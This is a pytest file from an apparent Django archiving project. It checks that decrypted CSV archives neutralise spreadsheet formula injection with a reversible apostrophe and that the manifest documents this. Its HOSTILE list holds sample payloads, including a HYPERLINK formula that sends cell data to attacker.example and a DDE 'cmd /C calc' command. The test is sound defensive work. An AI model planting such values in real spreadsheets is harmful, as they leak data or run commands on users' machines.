"""An archive's plaintext starts no formula in a spreadsheet, yet keeps every value: each cell
goes through the one neutralising helper (a reversible apostrophe), and the manifest says so."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from destruction.services.archives import archive_decrypt
from destruction.tests.factories_archives import (
    INVOICE_COLUMNS,
    archive_decision,
    custodian,
    invoice_rows,
    kept,
    make_archive,
)
from windown.spreadsheets import FORMULA_STARTS, unneutralise

pytestmark = pytest.mark.django_db

# What a hostile export may hold in any column: formulas and their look-alikes, after
# apostrophes already, after leading tabs and carriage returns, and harmless text.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "=",
    "-",
    "plain text",
    "'just an apostrophe",
    "",
    "値=1",
]


def hostile_export() -> tuple[bytes, list[list[str]]]:
    """An invoice export whose kept columns hold every hostile value, one per row."""
    header = list(INVOICE_COLUMNS)  # the plan names them: no hostile header gets this far
    rows = invoice_rows(len(HOSTILE))
    for row, value in zip(rows, HOSTILE, strict=True):
        row[:6] = [value] * 6  # every column but the newsletter flag, which the plan drops
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    return text.getvalue().encode(), [header, *rows]


@pytest.fixture
def archive(winddown, legal, director, it):
    decision = archive_decision(winddown, legal)
    identity = custodian(director)
    data, rows = hostile_export()
    archive = make_archive(it, decision, data=data)
    archive.custodian_identity, archive.source_rows = identity, rows
    return archive


def decrypted(archive) -> list[list[str]]:
    out = io.BytesIO()
    archive_decrypt(archive=archive, custodian_identity=str(archive.custodian_identity), out=out)
    return list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))


def test_no_cell_of_a_decrypted_archive_starts_a_formula(archive):
    cells = [value for row in decrypted(archive) for value in row]
    assert len(cells) == len(kept(archive.decision)) * (len(HOSTILE) + 1)
    starting = [value for value in cells if value.startswith(FORMULA_STARTS)]
    assert starting == []


def test_every_archived_value_is_restored_exactly_by_unneutralise(archive):
    indexes = [INVOICE_COLUMNS.index(c) for c in kept(archive.decision)]
    expected = [[row[i] for i in indexes] for row in archive.source_rows]
    restored = [[unneutralise(value) for value in row] for row in decrypted(archive)]
    assert restored == expected


def test_the_manifest_says_the_cells_are_neutralised_and_how_to_restore_them(archive, tmp_path):
    call_command("export_archive", archive.pk, "-o", tmp_path / "x", stdout=io.StringIO())
    manifest = json.loads((tmp_path / "x" / "manifest.json").read_text())
    assert manifest == archive.manifest
    assert manifest["format"] == "windown-archive/2"
    cells = manifest["plaintext"]["cells"]
    assert cells.startswith("formula-neutralised") and "unneutralise" in cells
    assert "restores the value exactly" in cells
